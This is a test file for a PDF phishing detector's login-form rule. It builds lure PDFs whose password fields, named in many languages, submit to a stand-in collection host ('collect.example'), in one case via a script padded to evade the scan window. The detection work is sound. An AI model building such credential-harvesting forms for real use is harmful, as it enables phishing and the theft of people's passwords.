// lure-login-form on PDFs built in code: a credential form is structure (fields, flags, a submit
// action), so the fast stage establishes it without rendering; field names are read in many languages.
import { describe, expect, it } from "vitest";
import { DEFAULT_LIMITS, defaultBudget, type Budget } from "../../limits";
import { readPdf } from "../../pdf/document";
import { hexString } from "../../pdf/testing/pdf-builder";
import { collectFacts } from "../facts/document-facts";
import { buildLurePdf, pdfString, type LureDocument } from "../pages/testing/lure-pdf";
import { passwordFields } from "../facts/password-fields";
import { lureLoginForm } from "./lure-login-form";

/** A login form: a user and a password field and a button submitting them to `submit`. */
function loginForm(opts: { password?: string; submit?: string; script?: string }): LureDocument {
  return {
    pages: [{ lines: ["Account login"] }],
    setup(b) {
      const user = b.add("<< /FT /Tx /T (email) /Rect [72 600 300 620] /Subtype /Widget >>");
      const fields = [user];
      if (opts.password) fields.push(b.add(`<< /FT /Tx ${opts.password} /Rect [72 560 300 580] /Subtype /Widget >>`));
      const action = opts.submit
        ? `/A << /S /SubmitForm /F << /FS /URL /F ${pdfString(opts.submit)} >> /Flags 4 >>`
        : opts.script
          ? `/A << /S /JavaScript /JS ${hexString(opts.script)} >>`
          : "";
      fields.push(b.add(`<< /FT /Btn /Ff 65536 /T (login) /Rect [72 500 200 530] /Subtype /Widget ${action} >>`));
      return { catalog: `/AcroForm << /Fields [${fields.map((f) => `${f} 0 R`).join(" ")}] >>` };
    },
  };
}

const factsOf = (spec: LureDocument) => collectFacts(readPdf(buildLurePdf(spec), DEFAULT_LIMITS), DEFAULT_LIMITS);
const check = (spec: LureDocument) => lureLoginForm.check(factsOf(spec), defaultBudget());

describe("lure-login-form", () => {
  it("is a fast-stage rule: a form is read from structure", () => {
    expect(lureLoginForm.stage).toBe("fast");
  });

  it("fires on a password field (flag) submitted to a web server", () => {
    expect(
      check(loginForm({ password: "/T (secret) /Ff 8192", submit: "https://collect.example/post.php" }))?.confidence,
    ).toBe("high");
  });

  it("fires on a password-like name and a script's submitForm", () => {
    const hit = check(
      loginForm({
        password: "/T (Passwort)",
        script: 'this.submitForm({cURL: "https://collect.example/p", cSubmitAs: "HTML"});',
      }),
    );
    expect(hit?.confidence).toBe("medium");
  });

  it("searches FORM_SCRIPT_SCAN_CHARS of a script for submitForm and reports a longer script", () => {
    // the submission after padding: read within the window, missed (and reported) past it
    const script = `var pad = "${"x".repeat(2000)}";\nthis.submitForm({cURL: "https://collect.example/p"});`;
    const facts = factsOf(loginForm({ password: "/T (pwd) /Ff 8192", script }));
    const narrow: Budget = { limits: { ...DEFAULT_LIMITS, FORM_SCRIPT_SCAN_CHARS: 1000 }, budgetHits: new Set() };
    expect(lureLoginForm.check(facts, narrow)).toBeNull();
    expect([...narrow.budgetHits]).toEqual(["FORM_SCRIPT_SCAN_CHARS"]);
    const wide = defaultBudget();
    expect(lureLoginForm.check(facts, wide)).not.toBeNull();
    expect(wide.budgetHits.size).toBe(0);
  });

  it("does not fire without a password field, without a submission, or when mailing the form", () => {
    expect(check(loginForm({ submit: "https://forms.example/apply" }))).toBeNull();
    expect(check(loginForm({ password: "/T (pwd) /Ff 8192" }))).toBeNull();
    expect(check(loginForm({ password: "/T (pwd) /Ff 8192", submit: "mailto:hr@example.com" }))).toBeNull();
  });

  it.each([
    "Şifre",
    "Hasło",
    "Parola",
    "パスワード",
    "登录密码",
    "비밀번호",
    "كلمة المرور",
    "Mot de passe",
    "Contraseña",
  ])("takes a field named %s for a password field", (name) => {
    const utf16 = `<feff${Buffer.from(name, "utf16le").swap16().toString("hex")}>`;
    expect(check(loginForm({ password: `/T ${utf16}`, submit: "https://collect.example/post.php" }))).not.toBeNull();
  });

  it("reads inherited /FT and /Ff and full field names", () => {
    const facts = factsOf({
      pages: [{}],
      setup(b) {
        const kid = b.add("<< /T (confirm) /Subtype /Widget /Rect [0 0 10 10] >>");
        const parent = b.add(`<< /T (login) /FT /Tx /Ff 8192 /Kids [${kid} 0 R] >>`);
        const passport = b.add("<< /T (passportNumber) /FT /Tx >>");
        return { catalog: `/AcroForm << /Fields [${parent} 0 R ${passport} 0 R] >>` };
      },
    });
    expect(passwordFields(facts.doc).map((f) => [f.name, f.why])).toEqual([["login.confirm", "Password flag"]]);
  });
});
